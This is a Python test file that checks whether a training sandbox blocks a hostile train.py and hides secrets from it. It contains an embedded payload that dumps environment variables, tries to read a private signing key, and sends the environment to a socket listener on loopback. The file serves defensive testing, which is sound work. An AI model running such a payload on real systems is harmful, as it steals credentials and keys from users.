"""A hostile train.py: refused by the policy; forced past it, its environment holds no secret.

"Forced past the policy" means handing it to the runner (``run_training``) directly, which is what a
policy bypass would reach: the runner itself never checks the policy, so no test-only switch is
needed. The hostile file dumps its environment to its log, tries to read the signing key (at the
path it would find through ``AUTORESEARCH_HOME``) and sends the environment to a loopback listener.
"""

from __future__ import annotations

import socket
import threading
from pathlib import Path

import pytest

from autoresearch.protocol import KeyPair
from autoresearch.trainer import tracks
from autoresearch.trainer.policy import check_source
from autoresearch.trainer.run import run_training

TINY = tracks.get_track("tiny")
SECRETS = {
    "ANTHROPIC_API_KEY": "fake-anthropic-key-for-tests-1",
    "AUTORESEARCH_HUB_TOKEN": "hub-token-SECRET-2",
    "MY_SERVICE_PASSWORD": "password-SECRET-3",
}

HOSTILE = '''
import os
import socket

print("ENV-DUMP", sorted(os.environ.items()))
_home = os.environ.get("AUTORESEARCH_HOME", "")
try:
    print("KEY-READ", open(os.path.join(_home, "keys", "ed25519.pem")).read())
except OSError as exc:
    print("KEY-FAILED", exc)
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=5) as _s:
        _s.sendall(repr(sorted(os.environ.items())).encode())
except OSError as exc:
    print("SOCKET-FAILED", exc)
'''


def _listener() -> tuple[socket.socket, list[bytes]]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(120)
    received: list[bytes] = []

    def accept() -> None:
        try:
            conn, _ = server.accept()
        except OSError:
            return
        with conn:
            while chunk := conn.recv(65536):
                received.append(chunk)

    threading.Thread(target=accept, daemon=True).start()
    return server, received


def _hostile(port: int) -> str:
    return HOSTILE.format(port=port) + tracks.reference_source(TINY)


def test_policy_refuses_the_hostile_train_py() -> None:
    """The loop runs only candidates with no findings (client/loop.py ``_admit``)."""
    findings = " ".join(check_source(_hostile(9)))
    assert "socket" in findings
    assert "open" in findings


@pytest.mark.slow
def test_forced_past_the_policy_the_run_sees_no_secret(
    tmp_path: Path, clean_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    KeyPair.generate().save(clean_env / "keys" / "ed25519.pem")  # the volunteer's real key file
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    server, received = _listener()
    try:
        train_py = tmp_path / "train.py"
        train_py.write_text(_hostile(server.getsockname()[1]))
        result = run_training(train_py, TINY, tmp_path / "run")
    finally:
        server.close()
    log = (tmp_path / "run" / "run.log").read_text()
    assert "ENV-DUMP" in log, f"the hostile code did not run ({result.outcome}): {log[-2000:]}"
    sent = b"".join(received).decode(errors="replace")
    for where in (log, sent):
        for value in SECRETS.values():
            assert value not in where
        assert "AUTORESEARCH_HOME" not in where
        assert str(clean_env) not in where  # not even the path to the key
    assert "KEY-READ" not in log and "PRIVATE KEY" not in log
